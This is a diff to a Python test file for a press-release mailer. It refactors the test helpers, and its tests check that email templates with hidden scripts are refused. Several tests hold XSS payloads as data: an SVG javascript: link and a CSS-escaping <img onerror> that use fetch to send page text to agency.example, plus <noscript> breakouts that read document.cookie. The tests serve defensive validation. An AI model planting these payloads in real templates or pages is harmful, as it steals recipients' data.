@@ -9,21 +9,7 @@ from typing import Any
 
 import pytest
 from conftest import ROOT
-from office_cli import SEND, campaign_of, mailed, mailer, office, said
-
-
-def _agency_release(project: Path, extra: str) -> Path:
-    """An agency's folder: its release names its own template, kit.html.j2, the built-in one with ``extra`` added."""
-    folder = project / "agency"
-    folder.mkdir()
-    text = (ROOT / "releases" / "example.md").read_text(encoding="utf-8")
-    (folder / "pitch.md").write_text(text.replace("---\n", "---\ntemplate: kit\n", 1), encoding="utf-8")
-    html = (ROOT / "templates" / "release.html.j2").read_text(encoding="utf-8")
-    (folder / "kit.html.j2").write_text(html.replace("</body>", f"{extra}\n</body>"), encoding="utf-8")
-    for suffix in ("txt.j2", "css"):
-        (folder / f"kit.{suffix}").write_text((ROOT / "templates" / f"release.{suffix}").read_text(encoding="utf-8"), encoding="utf-8")
-    return folder / "pitch.md"
-
+from office_cli import GREETING, SEND, agency_release, campaign_of, mailed, mailer, office, said, texts_sent
 
 # -- 1. an SVG animation's list of values slipped a javascript: link past the template check ----------
 
@@ -38,7 +24,7 @@ def test_a_template_cannot_hide_a_javascript_link_in_an_svg_animations_list(proj
         'values="https://agency.example/; javascript:fetch(`https://agency.example/?d=`+document.body.innerText)"/>'
         '<text x="0" y="20">Our press kit</text></a></svg>'
     )
-    release = _agency_release(project, svg)
+    release = agency_release(project, svg)
     result = mailer("preview", str(release), "-o", "out")
     assert result.exit_code == 1, result.output
     assert "javascript: is not allowed in an email template" in said(result), result.output
@@ -67,7 +53,7 @@ def test_a_template_cannot_hide_a_script_behind_a_comment_that_ends_early(projec
     lxml, which writes the email, reads "<!-->" as a whole, empty comment, as browsers do: the
     preview's HTML and every journalist's email held the agency's script, live, and `mailer preview`
     said "No warnings.". The HTML as written for the email is checked too now, and refused."""
-    release = _agency_release(project, extra)
+    release = agency_release(project, extra)
     result = mailer("preview", str(release), "-o", "out")
     assert result.exit_code == 1, result.output
     assert f"{named} is not allowed in an email template" in said(result), result.output
@@ -104,23 +90,6 @@ def test_include_previous_next_to_a_scheduled_send_leaves_them_to_it(tmp_path: P
 
 # -- 3. a journalist whose row notes her outlet after her name was greeted as an outlet ----------------
 
-GREETING = (
-    '---\nsubject: "Bee census"\n---\nDear {{ contact.first_name | default("colleague") }},\n\nThe census counted 1.2 million bees.\n'
-)
-
-
-def _texts(standin: Any) -> dict[str, str]:
-    """Each journalist's address -> the plain-text part she got, her substitutions made."""
-    texts = {}
-    for request in standin.mail_sends:
-        text = next(part["value"] for part in request.body["content"] if part["type"] == "text/plain")
-        for personalization in request.body["personalizations"]:
-            mine = text
-            for key, value in personalization.get("substitutions", {}).items():
-                mine = mine.replace(key, value)
-            texts[personalization["to"][0]["email"]] = mine
-    return texts
-
 
 def test_a_name_followed_by_its_outlet_keeps_its_first_name(tmp_path: Path, standin: Any, db_url: str) -> None:
     """An outlet in the name column gives no first name (lead 24), but media databases write a
@@ -146,7 +115,7 @@ def test_a_name_followed_by_its_outlet_keeps_its_first_name(tmp_path: Path, stan
     (tmp_path / "releases" / "greet.md").write_text(GREETING, encoding="utf-8")
     sent = mailer("send", "releases/greet.md", "--list", "lists/beat.csv", "--yes", "--no-test-ok")
     assert sent.exit_code == 0, sent.output
-    texts = _texts(standin)
+    texts = texts_sent(standin)
     for name, email, greeted in rows:
         assert f"Dear {greeted}," in texts[email], (name, texts[email])
 
@@ -178,7 +147,7 @@ def test_more_outlets_in_the_name_column_are_greeted_with_the_default(tmp_path: 
     (tmp_path / "releases" / "greet.md").write_text(GREETING, encoding="utf-8")
     sent = mailer("send", "releases/greet.md", "--list", "lists/beat.csv", "--yes", "--no-test-ok")
     assert sent.exit_code == 0, sent.output
-    texts = _texts(standin)
+    texts = texts_sent(standin)
     for name, email, greeted in rows:
         assert f"Dear {greeted}," in texts[email], (name, texts[email])
 
@@ -219,7 +188,7 @@ def test_a_template_cannot_hide_markup_in_an_svgs_style(project: Path) -> None:
         '<svg width="10" height="10"><style>@media screen{a{font-family:"<img src=https://agency.example/none.png '
         'onerror=fetch(`https://agency.example/?d=`+document.body.innerText)>"}}</style></svg>'
     )
-    release = _agency_release(project, svg)
+    release = agency_release(project, svg)
     result = mailer("preview", str(release), "-o", "out")
     assert result.exit_code == 1, result.output
     assert "<img> inside <style> is not allowed in an email template" in said(result), result.output  # review 24k's rule
@@ -238,7 +207,7 @@ def test_a_template_cannot_end_a_noscript_inside_its_css(project: Path) -> None:
     "</noscript><img src=... onerror=...>"}}</style></noscript>' passed the check, and the preview ran
     the picture's onerror=. Refused, as the SVG's."""
     css = '@media screen{a{font-family:"</noscript><img src=https://agency.example/none.png onerror=alert(document.cookie)>"}}'
-    release = _agency_release(project, f"<noscript><style>{css}</style></noscript>")
+    release = agency_release(project, f"<noscript><style>{css}</style></noscript>")
     result = mailer("preview", str(release), "-o", "out")
     assert result.exit_code == 1, result.output
     assert "<noscript> is not allowed in an email template" in said(result), result.output  # review 24k: refused whole
@@ -249,7 +218,7 @@ def test_a_template_cannot_end_a_noscript_inside_a_comment(project: Path) -> Non
     """The same with a comment: lxml keeps '<noscript><!-- </noscript><img src=... onerror=...> --></noscript>'
     as a comment in the email, which a browser running scripts ends at its "</noscript>"."""
     extra = '<noscript><!--[if mso]></noscript><img src="https://agency.example/none.png" onerror="alert(1)"><![endif]--></noscript>'
-    result = mailer("preview", str(_agency_release(project, extra)), "-o", "out")
+    result = mailer("preview", str(agency_release(project, extra)), "-o", "out")
     assert result.exit_code == 1, result.output
     assert "<noscript> is not allowed in an email template" in said(result), result.output  # review 24k: refused whole
 
